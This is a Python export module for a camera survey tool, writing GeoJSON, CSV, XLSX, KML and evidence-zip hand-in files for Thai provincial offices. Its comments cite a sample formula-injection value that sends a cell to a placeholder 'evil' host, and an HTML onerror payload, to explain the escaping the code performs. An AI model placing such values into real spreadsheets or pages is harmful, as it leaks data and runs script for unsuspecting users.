"""Exports of the node's cameras: GeoJSON (below), and the files a province hands in
(XLSX, CSV, KML, the evidence zip; PDF sheets through :mod:`survey_node.sheets`).

An export is a list of *columns* (name + how to get it from a camera row) and a *writer*
per format. Later issues add columns (survey results) by appending to ``COLUMNS`` or by
passing their own list, add per-camera properties computed from other tables by
appending to ``PROPERTY_SOURCES`` (e.g. the 20 % set's flags), and add formats by
registering a writer in ``WRITERS``. Rows are streamed from the database, so the number
of cameras does not bound memory (a property source holds one small dict per camera).
"""

from __future__ import annotations

import contextlib
import csv
import functools
import hashlib
import html
import json
import os
import re
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Callable, Iterable, Iterator
from xml.etree import ElementTree as ET

from sqlite_utils import Database

from .config import Config
from .db import cameras as camera_db
from .db import exports as export_db
from .errors import BadInput
from .evidence import EvidenceStore
from .selection import active_run
from .selection import quota as quota_mod
from .thaidate import format_date
from .selection import EMPTY_PROPERTIES, geojson_properties
from .survey import export_properties
from .streamcheck.verdict import LABELS


@dataclass(frozen=True)
class Column:
    name: str
    get: Callable[[dict], object]


def _field(name: str) -> Column:
    return Column(name, lambda cam, _n=name: cam.get(_n))


COLUMNS: list[Column] = [
    *(_field(n) for n in (
        "camera_id", "site_name", "place_name", "place_type", "agency",
        "province_code", "province_name", "amphoe_code", "amphoe_name",
        "tambon_code", "tambon_name", "registered_lat", "registered_lon",
        "coord_text", "coord_system", "brand", "model", "resolution", "registry_status",
    )),
    Column("removed", lambda cam: bool(cam.get("removed"))),
]


def write_geojson(out: IO[str], cameras: Iterable[dict], columns: list[Column]) -> int:
    """A FeatureCollection, one Feature per camera, written feature by feature."""
    count = 0
    out.write('{"type": "FeatureCollection", "features": [\n')
    for cam in cameras:
        lat, lon = cam.get("registered_lat"), cam.get("registered_lon")
        geometry = ({"type": "Point", "coordinates": [lon, lat]}
                    if lat is not None and lon is not None else None)
        feature = {"type": "Feature", "id": cam.get("camera_id"), "geometry": geometry,
                   "properties": {c.name: c.get(cam) for c in columns}}
        out.write((",\n" if count else "") + json.dumps(feature, ensure_ascii=False))
        count += 1
    out.write("\n]}\n")
    return count


def _selection_properties(db: Database) -> tuple[dict[str, dict], dict]:
    return geojson_properties(db), EMPTY_PROPERTIES


def _survey_properties(db: Database) -> tuple[dict[str, dict], dict]:
    return export_properties(db)


# Each source gives (camera_id -> extra properties, the properties of a camera it omits):
# the 20 % set's flags and the newest survey's results.
PROPERTY_SOURCES: list[Callable[[Database], tuple[dict[str, dict], dict]]] = [
    _selection_properties, _survey_properties,
]


def _with_sources(db: Database, cameras: Iterable[dict],
                  columns: list[Column]) -> tuple[Iterator[dict], list[Column]]:
    sources = [source(db) for source in PROPERTY_SOURCES]
    if not sources:
        return iter(cameras), columns
    names = [n for _, defaults in sources for n in defaults]

    def merged():
        for cam in cameras:
            extra = {}
            for per_camera, defaults in sources:
                extra.update(per_camera.get(cam.get("camera_id"), defaults))
            yield {**cam, **extra}

    return merged(), [*columns, *(_field(n) for n in names)]


WRITERS: dict[str, Callable[[IO[str], Iterable[dict], list[Column]], int]] = {
    "geojson": write_geojson,
}


def export(db: Database, fmt: str, out: IO[str], *, columns: list[Column] | None = None,
           include_removed: bool = True) -> int:
    """Write every camera in `fmt` to `out`; returns the number written."""
    writer = WRITERS.get(fmt)
    if writer is None:
        raise BadInput("Unknown export format %(format)s (known: %(known)s)", format=fmt,
                       known=", ".join(WRITERS))
    rows, cols = _with_sources(db, iter_cameras(db, include_removed=include_removed),
                               columns or COLUMNS)
    return writer(out, rows, cols)


def iter_cameras(db: Database, *, include_removed: bool = True) -> Iterator[dict]:
    yield from camera_db.iter_cameras_for_export(db, include_removed=include_removed)


# -- the hand-in files (XLSX, CSV, KML, evidence zip, PDF) ------------------------------------
#
# Each is the cameras of one scope (the survey set, the surveyed or the approved cameras, or
# all) with their latest survey. Column headers are Thai, in the column order of the registry
# import, followed by the survey results; they are a file format the ministry reads, so they
# are fixed Thai text rather than UI strings. Dates are Buddhist Era. Every file is written to
# a temporary name and renamed, so a failed export leaves nothing behind.

FORMATS = ("xlsx", "csv", "geojson", "kml", "evidence-zip", "pdf")
SCOPES = tuple(export_db.SCOPES)

SURVEY_STATE_TH = {None: "ยังไม่สำรวจ", "draft": "กำลังสำรวจ", "complete": "สำรวจแล้ว",
                   "synced": "ส่งทะเบียนกลางแล้ว"}
REVIEW_STATE_TH = {None: "รอตรวจ", "approved": "อนุมัติ", "rejected": "ไม่อนุมัติ",
                   "resurvey": "ให้สำรวจใหม่"}
ANSWER_TH = {"yes": "ใช่", "no": "ไม่ใช่", "unknown": "ไม่แน่ใจ"}


def _date(value) -> str:
    return format_date(value, "th", with_time=True) if value else ""


def _round(value, places=1):
    return None if value is None else round(value, places)


def _review_text(r: dict) -> str:
    if not r["survey_id"]:
        return ""
    return REVIEW_STATE_TH.get(r["review_state"], r["review_state"] or "")


def _verdict(r: dict) -> str:
    """The stream check's Thai label with its code, e.g. "ไม่ตอบสนอง (timeout)"."""
    code = r["stream_verdict"]
    if not code:
        return ""

    # The label alone: the code ("ok", "timeout") is English to the office that files this.
    return _thai().gettext(LABELS[code]) if code in LABELS else code


@functools.lru_cache(maxsize=1)
def _thai():
    from babel.support import Translations

    return Translations.load(str(Path(__file__).resolve().parent / "translations"), ["th"])


def _view_percent(r: dict):
    score = r.get("check_view_change")
    return None if score is None else round(score * 100)


def _view_meaning(r: dict) -> str:
    from .streamcheck import viewscore

    key = viewscore.meaning(r.get("check_view_change"),
                            r.get("view_moved_at", VIEW_MOVED_AT))
    return _thai().gettext(viewscore.MEANINGS[key]) if key else ""


VIEW_MOVED_AT = 0.5  # the config's default; export_file puts the node's own on each row


def _resolution(r: dict) -> str:
    return f"{r['check_width']}x{r['check_height']}" if r.get("check_width") else ""


# (key, Thai header, value). The first block is the registry import's columns, in its order.
POSITION_SOURCE_TH = {"gpsd": "GPS ของเครื่องสำรวจ", "replay": "GPS จำลอง (สาธิต)",
                      "tablet": "GPS ของแท็บเล็ต", "manual": "พิมพ์เอง"}
EPH_SOURCE_TH = {"gst": "วัดโดยตัวรับ (GST)", "receiver": "วัดโดยตัวรับ",
                 "estimated": "ประมาณจาก HDOP"}
HANDIN_COLUMNS: list[tuple[str, str, Callable[[dict], object]]] = [
    ("camera_id", "รหัสกล้อง", lambda r: r["camera_id"]),
    ("site_name", "ชื่อจุดติดตั้ง", lambda r: r["site_name"]),
    ("place_name", "ชื่อสถานที่", lambda r: r["place_name"]),
    ("place_type", "ประเภทสถานที่", lambda r: r["place_type"]),
    ("agency", "หน่วยงาน", lambda r: r["agency"]),
    ("province", "จังหวัด", lambda r: r["province_name"]),
    ("amphoe", "อำเภอ", lambda r: r["amphoe_name"]),
    ("tambon", "ตำบล", lambda r: r["tambon_name"]),
    ("registered_lat", "ละติจูด", lambda r: r["registered_lat"]),
    ("registered_lon", "ลองจิจูด", lambda r: r["registered_lon"]),
    ("brand", "ยี่ห้อ", lambda r: r["brand"]),
    ("model", "รุ่น", lambda r: r["model"]),
    ("resolution", "ความละเอียด", lambda r: r["resolution"]),
    ("registry_status", "สถานะกล้อง", lambda r: r["registry_status"]),
    # survey results
    ("selected", "อยู่ในชุดสำรวจร้อยละ 20", lambda r: "ใช่" if r["selected"] else "ไม่ใช่"),
    ("survey_state", "สถานะการสำรวจ", lambda r: SURVEY_STATE_TH.get(r["survey_state"], r["survey_state"])),
    ("review_state", "ผลการตรวจสอบ", _review_text),
    ("review_reason", "เหตุผลของผู้ตรวจ", lambda r: r["review_reason"] or ""),
    ("surveyed_lat", "ละติจูดที่สำรวจ", lambda r: _round(r["lat"], 7)),
    ("surveyed_lon", "ลองจิจูดที่สำรวจ", lambda r: _round(r["lon"], 7)),
    ("accuracy_m", "ความคลาดเคลื่อน GPS (ม.)", lambda r: _round(r["eph"])),
    # A 17 m from gpsd's HDOP guess is not a measured 17 m: whoever reads the file must know.
    ("accuracy_source", "ที่มาของค่าคลาดเคลื่อน",
     lambda r: EPH_SOURCE_TH.get(r.get("eph_source"), r.get("eph_source") or "")),
    ("distance_m", "ระยะห่างจากพิกัดในทะเบียน (ม.)", lambda r: _round(r["distance_m"])),
    ("position_reason", "เหตุผลที่พิกัดต่างจากทะเบียน", lambda r: r.get("position_reason") or ""),
    ("position_source", "ที่มาของพิกัด",
     lambda r: POSITION_SOURCE_TH.get(r["position_source"], r["position_source"] or "")),
    ("sats_used", "จำนวนดาวเทียม", lambda r: r["sats_used"]),
    ("stream_verdict", "ผลตรวจสัญญาณภาพ", _verdict),
    ("stream_resolution", "ความละเอียดที่วัดได้", _resolution),
    ("stream_fps", "อัตราเฟรม (fps)", lambda r: _round(r.get("check_fps"))),
    ("stream_bitrate_kbps", "บิตเรต (kbps)", lambda r: r.get("check_bitrate_kbps")),
    ("stream_keyframe_s", "ระยะห่างคีย์เฟรม (วินาที)",
     lambda r: _round(r.get("check_keyframe_interval_s"))),
    ("stream_connect_ms", "เวลาเชื่อมต่อ (มิลลิวินาที)", lambda r: r.get("check_connect_ms")),
    ("stream_luma", "ความสว่างของภาพ", lambda r: _round(r.get("check_luma"))),
    ("photos", "จำนวนภาพถ่าย", lambda r: r["photos"] if r["survey_id"] else None),
    ("surveyor", "ผู้สำรวจ", lambda r: r.get("surveyor_name") or r["surveyor"] or ""),
    ("surveyed_at", "วันที่สำรวจ (พ.ศ.)", lambda r: _date(r["completed_at"])),
    ("reviewer", "ผู้ตรวจสอบ", lambda r: r.get("reviewer_name") or r["reviewer"] or ""),
    ("reviewed_at", "วันที่ตรวจสอบ (พ.ศ.)", lambda r: _date(r["reviewed_at"])),
    ("exists", "พบกล้อง", lambda r: ANSWER_TH.get(r["checklist"].get("exists"), "")),
    ("working", "กล้องใช้งานได้", lambda r: ANSWER_TH.get(r["checklist"].get("working"), "")),
    ("notes", "หมายเหตุ", lambda r: r["notes"] or ""),
    # A stream address found on site (masked) and what the camera said over ONVIF (issue 18).
    ("found_stream_url", "ที่อยู่สตรีมที่พบในพื้นที่", lambda r: r.get("found_stream_url") or ""),
    ("camera_maker", "ยี่ห้อที่กล้องรายงาน (ONVIF)", lambda r: r.get("check_onvif_manufacturer") or ""),
    ("camera_model", "รุ่นที่กล้องรายงาน (ONVIF)", lambda r: r.get("check_onvif_model") or ""),
    ("camera_serial", "หมายเลขเครื่อง (ONVIF)", lambda r: r.get("check_onvif_serial") or ""),
    ("camera_mac", "หมายเลข MAC (ONVIF)", lambda r: r.get("check_onvif_mac") or ""),
    ("clock_drift_s", "นาฬิกากล้องคลาดเคลื่อน (วินาที)", lambda r: _round(r.get("check_clock_drift_s"), 0)),
    # How much the view changed against the camera's earlier snapshot (issue 18), and what
    # that number means: a bare figure would be read as a percentage of something else.
    ("view_change", "การเปลี่ยนของมุมภาพ (0 = มุมเดิม, 100 = มุมอื่น)", lambda r: _view_percent(r)),
    ("view_change_meaning", "ความหมายของการเปลี่ยนมุมภาพ", lambda r: _view_meaning(r)),
]
HEADERS = [c[1] for c in HANDIN_COLUMNS]
QUOTA_HEADERS = ["รหัส", "ชื่อ", "กล้องในทะเบียน", "เป้าหมาย", "คัดเลือก", "สำรวจแล้ว", "อนุมัติแล้ว",
                 "ร้อยละที่คัดเลือก", "ขาดจากเป้าหมาย", "ต้องอนุมัติอีก"]


def records(db: Database, *, scope: str = "all", amphoe: str = "", agency: str = "") -> list[dict]:
    if scope not in export_db.SCOPES:
        raise BadInput("Export scope %(scope)r is not one of %(known)s", scope=scope,
                       known=", ".join(SCOPES))
    run = active_run(db)
    return list(export_db.iter_export_rows(db, scope=scope, run_id=run["id"] if run else None,
                                           amphoe=amphoe.strip(), agency=agency.strip()))


def export_file(db: Database, config: Config, fmt: str, out: str | os.PathLike, *,
                scope: str = "all", amphoe: str = "", agency: str = "") -> int:
    """Write one hand-in file of the cameras in `scope`; returns how many it holds."""
    if fmt not in FORMATS:
        raise BadInput("Unknown export format %(format)s (known: %(known)s)", format=fmt,
                       known=", ".join(FORMATS))
    found = records(db, scope=scope, amphoe=amphoe, agency=agency)
    for r in found:
        r["view_moved_at"] = config.streamcheck.view_change_moved
    if fmt == "pdf":
        # Here, not at the top: every `survey-node` command imports this module, and only
        # the PDF needs the templates and catalogs (about 50 ms of start-up on a Pi).
        from . import sheets

        with atomic_output(out) as tmp:
            sheets.write_pdf(db, config, [r["survey_id"] for r in found if r["survey_id"]],
                             tmp, title_scope=amphoe)
        return sum(1 for r in found if r["survey_id"])
    with atomic_output(out) as tmp:
        if fmt == "xlsx":
            write_xlsx(tmp, found, quota_tables(db, config))
        elif fmt == "csv":
            write_csv(tmp, found)
        elif fmt == "geojson":
            with open(tmp, "w", encoding="utf-8") as fh:
                write_geojson_scope(db, fh, found, whole=scope == "all" and not (amphoe or agency))
        elif fmt == "kml":
            write_kml(tmp, found)
        else:
            write_evidence_zip(tmp, found, db, EvidenceStore(config.evidence_dir))
    return len(found)


def write_geojson_scope(db: Database, out: IO[str], found: list[dict], *, whole: bool) -> int:
    """The GeoJSON export as defined above (registered positions, selection and survey
    properties), limited to the cameras of one scope; `whole` keeps every camera, removed
    ones included, exactly as `export(db, "geojson", ...)` writes them."""
    if whole:
        return export(db, "geojson", out)
    wanted = {r["camera_id"] for r in found}
    cameras = (c for c in iter_cameras(db, include_removed=False) if c["camera_id"] in wanted)
    rows, cols = _with_sources(db, cameras, COLUMNS)
    return write_geojson(out, rows, cols)


def rows_as_lists(found: list[dict], columns=HANDIN_COLUMNS) -> Iterator[list]:
    for r in found:
        yield [get(r) for _key, _header, get in columns]


def quota_tables(db: Database, config: Config) -> dict[str, dict]:
    return {level: quota_mod.compute_quota(db, level=level,
                                           default_fraction=config.selection.target_fraction)
            for level in ("amphoe", "agency")}


# -- writers ---------------------------------------------------------------------------

# Text a spreadsheet program would take as a formula (OWASP "CSV injection"): names, notes
# and agencies come from registry files and from surveyors, so any of them can be
# `=HYPERLINK("http://evil/?"&A1,"click")`. Tab and CR are on the list because some
# programs skip them before looking for a formula sign.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def inert_csv(value):
    """A CSV cell that opens as the text it is: formula-leading text gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def _append_as_text(sheet, values) -> None:
    """Append a row; a cell openpyxl took for a formula (text starting '=') stays text.

    In XLSX the cell type says what a value is, so the text is kept exactly as written
    (no quote prefix) and Excel shows it instead of running it.
    """
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"



def write_xlsx(path: Path, found: list[dict], quotas: dict[str, dict],
               columns=HANDIN_COLUMNS) -> None:
    """The cameras sheet, and the quota summary sheet when there are `quotas`."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    wb = Workbook(write_only=False)
    sheet = wb.active
    sheet.title = "กล้อง"
    headers = [header for _key, header, _get in columns]
    sheet.append(headers)
    for values in rows_as_lists(found, columns):
        _append_as_text(sheet, values)
    bold, fill = Font(bold=True), PatternFill("solid", fgColor="DDE6F5")
    for cell in sheet[1]:
        cell.font, cell.fill = bold, fill
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for index, header in enumerate(headers, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = max(10, min(40, len(header) + 4))
    sheet.freeze_panes = "B2"
    sheet.auto_filter.ref = sheet.dimensions
    if quotas:
        _write_quota_sheet(wb.create_sheet("สรุปตามเป้าหมาย"), quotas, bold, fill)
    wb.save(path)


def _write_quota_sheet(summary, quotas: dict[str, dict], bold, fill) -> None:
    from openpyxl.utils import get_column_letter

    titles = {"amphoe": "ตามอำเภอ", "agency": "ตามหน่วยงาน"}
    for level, result in quotas.items():
        fraction = f"{result['fraction'] * 100:g}"
        summary.append([f"ความคืบหน้าเทียบเป้าหมายร้อยละ {fraction} {titles[level]}"])
        summary.cell(row=summary.max_row, column=1).font = bold
        summary.append(QUOTA_HEADERS)
        for cell in summary[summary.max_row]:
            cell.font, cell.fill = bold, fill
        for r in result["rows"]:
            _append_as_text(summary, _quota_row(r))
        total = _quota_row({**result["totals"], "code": "", "name": "รวม"})
        summary.append(total)
        for cell in summary[summary.max_row]:
            cell.font = bold
        summary.append([])
    for index in range(1, len(QUOTA_HEADERS) + 1):
        summary.column_dimensions[get_column_letter(index)].width = 18 if index != 2 else 36


def _quota_row(r: dict) -> list:
    return [r["code"], r["name"], r["registered"], r["target"], r["selected"], r["surveyed"],
            r["approved"], round(r["selected_share"] * 100, 1), r["shortfall"], r["to_approve"]]


def write_csv(path: Path, found: list[dict], columns=HANDIN_COLUMNS) -> None:
    # UTF-8 with a BOM: Excel on Thai Windows otherwise reads it as cp874 and garbles it.
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow([header for _key, header, _get in columns])
        writer.writerows([inert_csv(v) for v in row] for row in rows_as_lists(found, columns))


KML_NS = "http://www.opengis.net/kml/2.2"
KML_STYLES = {"approved": "ff20a020", "pending": "ff00a5ff", "resurvey": "ff2020d0",
              "rejected": "ff2020d0", "todo": "ffa0a0a0"}


def write_kml(path: Path, found: list[dict]) -> None:
    """A placemark per camera (for Google Earth), coloured by review state, with key facts."""
    ET.register_namespace("", KML_NS)
    kml = ET.Element(f"{{{KML_NS}}}kml")
    doc = ET.SubElement(kml, "Document")
    ET.SubElement(doc, "name").text = "กล้องวงจรปิด ร้อยละ 20"
    for style, colour in KML_STYLES.items():
        st = ET.SubElement(doc, "Style", id=style)
        icon = ET.SubElement(st, "IconStyle")
        ET.SubElement(icon, "color").text = colour
    for r in found:
        lat, lon = _position(r)
        if lat is None:
            continue
        mark = ET.SubElement(doc, "Placemark", id=_safe(r["camera_id"]))
        ET.SubElement(mark, "name").text = f"{r['camera_id']} {r['site_name']}".strip()
        facts = [(h, get(r)) for key, h, get in HANDIN_COLUMNS
                 if key in ("agency", "amphoe", "survey_state", "review_state", "distance_m",
                            "accuracy_m", "stream_verdict", "photos", "surveyor", "surveyed_at")]
        # Viewers render a description as HTML: escaped once here (ElementTree escapes it
        # again for XML), a site name such as "<img src=x onerror=...>" shows as text.
        ET.SubElement(mark, "description").text = html.escape("\n".join(
            f"{h}: {v}" for h, v in facts if v not in (None, "")))
        ET.SubElement(mark, "styleUrl").text = "#" + _kml_style(r)
        data = ET.SubElement(mark, "ExtendedData")
        for key, header, get in HANDIN_COLUMNS:
            value = get(r)
            if value in (None, ""):
                continue
            item = ET.SubElement(data, "Data", name=key)
            ET.SubElement(item, "displayName").text = header
            ET.SubElement(item, "value").text = str(value)
        point = ET.SubElement(mark, "Point")
        ET.SubElement(point, "coordinates").text = f"{lon:.7f},{lat:.7f},0"
    ET.ElementTree(kml).write(path, encoding="utf-8", xml_declaration=True)


def _kml_style(r: dict) -> str:
    if not r["survey_id"]:
        return "todo"
    return r["review_state"] or "pending"


def write_evidence_zip(path: Path, found: list[dict], db: Database, store: EvidenceStore) -> None:
    """Photos and snapshots named <camera id>/<camera id>_<role>_<n>.jpg, with manifests.

    SHA256SUMS checks with `sha256sum -c`; manifest.json says which camera, survey and
    role each file is. Every file is hashed again as it goes in: a damaged one is left out
    and listed under "missing", never shipped under a hash it does not have.
    """
    manifest, missing, sums = [], [], []
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED, allowZip64=True) as zf:
        for r in found:
            if not r["survey_id"]:
                continue
            counts: dict[str, int] = {}
            for ev in export_db.rows_export_evidence(db, r["survey_id"]):
                counts[ev["role"]] = counts.get(ev["role"], 0) + 1
                ext = {"image/png": "png", "image/webp": "webp"}.get(ev["mime"], "jpg")
                cam = _safe(r["camera_id"])
                name = f"{cam}/{cam}_{_safe(ev['role'])}_{counts[ev['role']]}.{ext}"
                try:
                    data = store.read_bytes(ev["sha256"])
                except Exception:  # noqa: BLE001 - any unreadable file is reported, not fatal
                    data = None
                if data is None or hashlib.sha256(data).hexdigest() != ev["sha256"]:
                    missing.append({"camera_id": r["camera_id"], "sha256": ev["sha256"],
                                    "role": ev["role"]})
                    continue
                zf.writestr(name, data)
                sums.append(f"{ev['sha256']}  {name}")
                manifest.append({"file": name, "sha256": ev["sha256"], "bytes": len(data),
                                 "camera_id": r["camera_id"], "survey_id": r["survey_id"],
                                 "revision": r["revision"], "role": ev["role"],
                                 "kind": ev["kind"], "taken_at": ev["taken_at"]})
        zf.writestr("SHA256SUMS", "\n".join(sums) + ("\n" if sums else ""))
        zf.writestr("manifest.json", json.dumps({"files": manifest, "missing": missing},
                                                ensure_ascii=False, indent=1))


def _position(r: dict) -> tuple[float | None, float | None]:
    if r["lat"] is not None:
        return r["lat"], r["lon"]
    return r["registered_lat"], r["registered_lon"]


def _safe(text: str) -> str:
    """A camera id or role as a file name part (ids come from a spreadsheet)."""
    return re.sub(r"[^0-9A-Za-z\u0E00-\u0E7F._-]+", "_", str(text)).strip("._") or "_"


@contextlib.contextmanager
def atomic_output(out: str | os.PathLike):
    """A temporary path beside `out` to write to; it becomes `out` only once complete."""
    target = Path(out)
    if target.is_dir():
        raise BadInput("%(path)s is a folder: give a file name", path=str(target))
    if not target.parent.exists():
        raise BadInput("Folder %(path)s does not exist", path=str(target.parent))
    fd, tmp = tempfile.mkstemp(prefix=f".{target.name}.", dir=target.parent)
    os.close(fd)
    try:
        yield Path(tmp)
        os.chmod(tmp, 0o644)
        os.replace(tmp, target)
    finally:
        Path(tmp).unlink(missing_ok=True)
